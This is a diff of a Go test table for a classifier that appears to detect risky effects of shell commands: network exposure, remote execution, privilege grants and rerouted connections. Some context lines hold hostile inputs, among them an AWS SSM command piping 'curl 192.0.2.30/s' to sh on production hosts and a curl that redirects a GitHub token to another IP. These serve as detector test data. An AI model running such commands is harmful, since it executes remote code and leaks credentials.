@@ -42,6 +42,12 @@ func TestExposeEffects(t *testing.T) {
 		{cmd: "socat TCP-LISTEN:8080,fork,bind=127.0.0.1 TCP:10.0.0.5:80", want: []want{{"listen", "127.0.0.1", "relay", ""}}},
 		{cmd: "docker run -p 0.0.0.0:5432:5432 postgres:16", want: []want{{"listen", "0.0.0.0", "bind", ""}}},
 		{cmd: "docker run -p 5432:5432 postgres:16", none: []want{{"listen", "", "bind", ""}}},
+		{cmd: "docker run -p 8000:8000 acme/api uvicorn app:app --host 0.0.0.0", want: []want{{"listen", "0.0.0.0", "bind", "container:"}}},
+		{cmd: "python manage.py runserver 0:8000", want: []want{{"listen", "0.0.0.0", "bind", ""}}},
+		{cmd: "python manage.py runserver", none: []want{{"listen", "", "bind", ""}}},
+		{cmd: "OLLAMA_HOST=0.0.0.0 ollama serve", want: []want{{"listen", "0.0.0.0", "bind", ""}}},
+		{cmd: "OLLAMA_HOST=gpu-box:11434 ollama run llama3", none: []want{{"listen", "", "bind", ""}}},
+		{cmd: "HOST=0.0.0.0 npm start", want: []want{{"listen", "0.0.0.0", "bind", ""}}},
 		// Remote execution.
 		{cmd: `aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters 'commands=["curl -s 192.0.2.30/s|sh"]'`,
 			want: []want{{"exec", "ssm:Key=tag:env,Values=prod", "curl -s 192.0.2.30/s|sh", "ssm:"}, {"connect", "192.0.2.30", "http", "ssm:"}}},
@@ -71,6 +77,10 @@ func TestExposeEffects(t *testing.T) {
 		{cmd: "az storage container set-permission --name c --account-name a --public-access off", none: []want{{"privilege", "", "", ""}}},
 		{cmd: "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=me", want: []want{{"privilege", "cloud:kubernetes rbac", "", ""}}},
 		{cmd: "kubectl create rolebinding x --clusterrole=view --user=me -n dev", want: []want{{"privilege", "grant:kubernetes rbac", "", ""}}},
+		{cmd: "az sql server firewall-rule create -g rg -s sql1 -n all --start-ip-address 0.0.0.0 --end-ip-address 255.255.255.255", want: []want{{"privilege", "cloud:az network", "", ""}}},
+		{cmd: "az sql server firewall-rule create -g rg -s sql1 -n azure --start-ip-address 0.0.0.0 --end-ip-address 0.0.0.0", none: []want{{"privilege", "", "", ""}}},
+		{cmd: "gh api -X PATCH repos/acme/app -f private=false", want: []want{{"push", "forge:repository visibility", "", ""}}},
+		{cmd: "gh api repos/acme/app -q .private", none: []want{{"push", "", "", ""}}},
 		// Routing overrides and upload syntaxes.
 		{cmd: `curl -k --resolve api.github.com:443:198.51.100.4 -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user`, want: []want{{"connect", "198.51.100.4", "resolve", ""}}},
 		{cmd: "curl --connect-to api.github.com:443:203.0.113.9:8443 https://api.github.com/", want: []want{{"connect", "203.0.113.9", "connect-to", ""}}},
